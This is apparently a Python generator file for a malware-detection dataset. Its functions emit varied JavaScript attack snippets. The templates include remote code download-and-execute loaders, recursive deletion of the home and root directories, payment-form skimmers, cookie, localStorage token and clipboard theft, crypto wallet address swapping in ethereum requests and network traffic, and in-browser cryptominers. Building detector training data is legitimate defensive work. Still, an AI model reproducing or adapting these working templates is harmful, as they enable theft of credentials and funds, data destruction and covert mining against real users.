def outgoing_requests(p):
    p.used_api("http.request")
    o, m = p.v("out"), p.v("mod")
    return ("const %(m)s = %(http)s, %(o)s = %(m)s.request;\n%(m)s.request = function (...a) {\n  const q = %(o)s.apply(this, a), w = q.write;\n"
            "  q.write = (d, ...r) => w.call(q, String(d).replace(/0x[0-9a-fA-F]{40}/g, %(w)s), ...r);\n  return q;\n};") % {
        "m": m, "o": o, "http": p.mod("https"), "w": p.s(wallet(p))}


# ---- ways that the analysis had to learn --------------------------------------------------------------

@family("download-run", "setting")
def own_emitter(p):
    p.used_api("https.get", "new Function")
    k, r, t = p.v("mod"), p.v("res"), p.v("data")
    return ("class %(k)s extends %(e)s.EventEmitter {\n  constructor() { super(); this.on('body', (%(t)s) => new Function(%(t)s)()); }\n"
            "  open() { %(m)s.get(%(u)s, (%(r)s) => %(r)s.on('data', (%(t)s) => this.emit('body', String(%(t)s)))); }\n}\nnew %(k)s().open();") % {
        "k": k, "e": p.mod("events"), "t": t, "m": p.mod(p.scheme), "u": p.url(), "r": r}


@family("download-run", "setting")
def records_of_names(p):
    p.used_api("dns.resolveTxt", "Function")
    e, r = p.v("err"), p.v("list")
    return "%s.resolveTxt(%s, (%s, %s) => { if (!%s) Reflect.construct(Function, [%s.map((x) => x.join('')).join('')])(); });" % (
        p.mod("dns"), p.h(p.host), e, r, e, r)


@family("download-run", "setting")
def text_of_worker(p):
    p.used_api("fetch", "Worker")
    t = p.v("data")
    return "fetch(%s).then(async (r) => await (await r.blob()).text()).then((%s) => new %s.Worker(%s, { eval: true })).catch(%s);" % (
        p.url(), t, p.mod("worker_threads"), t, p.swallow())


@family("permissions", "setting")
def home_removed(p):
    p.used_api("fs.rm")
    d = p.v("path")
    return p.pick("%s.rm(%s.homedir(), { recursive: true, force: true }, %s);" % (p.mod("fs"), p.mod("os"), p.swallow()),
                  "[%s, process.env.HOME].forEach((%s) => %s.rmSync(%s, { recursive: true, force: true }));" % (p.s("/"), d, p.mod("fs"), d))


# ---- in a page ------------------------------------------------------------------------------------

@family("download-run", "measuring", "page")
def worker_scripts(p):
    p.used_api("Worker")
    return "new Worker(URL.createObjectURL(new Blob([%s + %s + %s])));" % (p.s("importScripts('"), p.url(), p.s("')"))


@family("download-run", "measuring", "page")
def written_tag(p):
    p.used_api("document.write")
    return p.pick("document.write(%s + %s + %s);", "document.body.insertAdjacentHTML('beforeend', %s + %s + %s);") % (
        p.s("<script src=\""), p.url(), p.s("\"></scr" + "ipt>")) if p.rng.random() < 0.5 else \
        "const d = document.createRange().createContextualFragment(%s + %s + %s);\ndocument.head.append(d);" % (
            p.s("<script src=\""), p.url(), p.s("\"></scr" + "ipt>"))


@family("download-run", "measuring", "page")
def text_of_script(p):
    p.used_api("fetch", "script element")
    p.is_async = True
    e = p.v("item")
    return "const %s = document.createElement(%s);\n%s.text = await (await fetch(%s)).text();\ndocument.head.appendChild(%s);" % (
        e, p.s("script"), e, p.url(), e)


@family("download-run", "setting", "page")
def iframe_source(p):
    p.used_api("iframe")
    e = p.v("item")
    return "const %s = Object.assign(document.createElement(%s), { hidden: true, src: %s });\ndocument.documentElement.appendChild(%s);" % (
        e, p.s("iframe"), p.url(), e)


def page_post(p, x):
    how = p.rng.randrange(4)
    if how == 0:
        p.used_api("form")
        f = p.v("data")
        return "const %s = Object.assign(document.createElement('form'), { action: %s, method: %s, target: '_blank' });\n%s.append(Object.assign(document.createElement('input'), { name: 'd', value: %s }));\n%s.submit();" % (
            f, p.url(), p.s("post"), f, x, f)
    if how == 1:
        p.used_api("link")
        return "document.head.append(Object.assign(document.createElement('link'), { rel: %s, href: %s + '?' + btoa(%s) }));" % (
            p.s("prefetch"), p.url(), x)
    if how == 2:
        p.used_api("EventSource")
        return "new EventSource(%s + '?m=' + encodeURIComponent(%s)).onopen = function () { this.close(); };" % (p.url(), x)
    p.used_api("fetch")
    return "window.fetch(new Request(%s, { method: %s, keepalive: true, credentials: 'omit', body: %s }));" % (p.url(), p.s("PUT"), x)


@family("skimmer", "measuring", "page")
def submit_replaced(p):
    p.used_api("HTMLFormElement")
    o = p.v("out")
    return "const %s = HTMLFormElement.prototype.submit;\nHTMLFormElement.prototype.submit = function () {\n%s\n  return %s.apply(this, arguments);\n};" % (
        o, base.indent(page_post(p, "new URLSearchParams(new FormData(this)).toString()")), o)


@family("skimmer", "measuring", "page")
def fields_on_blur(p):
    p.used_api("blur listener")
    e = p.v("err")
    return "document.querySelectorAll('input, select').forEach((n) => n.addEventListener(%s, %s));" % (
        p.s("blur"), p.fn([e], page_post(p, "%s.currentTarget.name + '=' + %s.currentTarget.value" % (e, e))))


@family("skimmer", "measuring", "page")
def fields_observed(p):
    p.used_api("MutationObserver")
    o = p.v("out")
    return ("new MutationObserver(() => {\n  const %(o)s = Array.from(document.forms, (f) => Array.from(f.elements, (x) => [x.name, x.value]));\n%(s)s\n})"
            ".observe(document, { subtree: true, childList: true });") % {"o": o, "s": base.indent(page_post(p, "JSON.stringify(%s)" % o))}


@family("skimmer", "setting", "page")
def pay_button(p):
    p.used_api("click listener")
    o = p.v("out")
    return "document.addEventListener('click', () => {\n  const %s = [...document.querySelectorAll('input')].map((x) => x.value).join('|');\n%s\n});" % (
        o, base.indent(base.page_send(p, o)))


@family("exfil-page", "measuring", "page")
def all_stores(p):
    o = p.v("out")
    p.used_api("storage")
    return "const %s = [document.cookie, ...Object.values(sessionStorage), ...Object.entries(localStorage).flat()].join('\\n');\n%s" % (o, page_post(p, o))


@family("exfil-page", "measuring", "page")
def token_keys(p):
    k = p.v("item")
    p.used_api("storage")
    return "for (let i = 0; i < localStorage.length; i++) {\n  const %s = localStorage.key(i);\n  if (/token|auth|session/i.test(%s)) {\n%s\n  }\n}" % (
        k, k, base.indent(base.indent(page_post(p, "localStorage.getItem(%s)" % k))))


@family("exfil-page", "setting", "page")
def clipboard_read(p):
    p.used_api("clipboard")
    t = p.v("data")
    return "document.addEventListener('copy', () => navigator.clipboard.readText().then((%s) => {\n%s\n}));" % (t, base.indent(base.page_send(p, t)))


@family("wallet-swap", "measuring", "page")
def provider_replaced(p):
    p.used_api("ethereum")
    o = p.v("out")
    return ("if (window.ethereum) {\n  const %(o)s = window.ethereum.request.bind(window.ethereum);\n  window.ethereum.request = (q) => {\n"
            "    if (q.method === 'eth_sendTransaction') q.params[0].to = %(w)s;\n    return %(o)s(q);\n  };\n}") % {
        "o": o, "w": p.s("0x" + digits(p, 40))}


@family("wallet-swap", "measuring", "page")
def requests_rewritten(p):
    p.used_api("XMLHttpRequest")
    o = p.v("out")
    return ("const %(o)s = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) {\n"
            "  return %(o)s.call(this, typeof b === 'string' ? b.replace(/\\b(bc1|[13])[a-zA-Z0-9]{25,39}\\b/g, %(w)s) : b);\n};") % {
        "o": o, "w": p.s("1" + digits(p, 33, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"))}


@family("wallet-swap", "setting", "page")
def fetch_rewritten(p):
    p.used_api("fetch")
    o = p.v("out")
    return ("const %(o)s = window.fetch;\nwindow.fetch = async function (...a) {\n  const r = await %(o)s.apply(this, a);\n"
            "  const t = (await r.clone().text()).replace(/0x[0-9a-fA-F]{40}/g, %(w)s);\n  return new Response(t, r);\n};") % {"o": o, "w": p.s("0x" + digits(p, 40))}


@family("miner", "measuring", "page")
def page_miner(p):
    p.used_api("Worker", "WebSocket")
    s, w = p.v("sock"), p.v("out")
    return ("const %(w)s = new Worker(%(u)s), %(s)s = new WebSocket(%(h)s);\n%(s)s.onmessage = (m) => %(w)s.postMessage(m.data);\n"
            "%(w)s.onmessage = (m) => %(s)s.send(JSON.stringify({ method: 'submit', params: m.data }));\n"
            "%(s)s.onopen = () => %(s)s.send(JSON.stringify({ method: 'login', params: { login: %(a)s } }));") % {
        "w": w, "s": s, "u": p.url(), "h": p.h("wss://%s/proxy" % p.host), "a": p.s(wallet(p))}


@family("miner", "setting", "page")
def page_miner_tag(p):
    p.used_api("script element")
    e = p.v("item")
    return ("const %(e)s = document.createElement('script');\n%(e)s.src = %(u)s;\n%(e)s.onload = () => new window.Miner(%(w)s, { throttle: 0.5 }).start();\n"
            "document.head.appendChild(%(e)s);") % {"e": e, "u": p.url(), "w": p.s(wallet(p))}
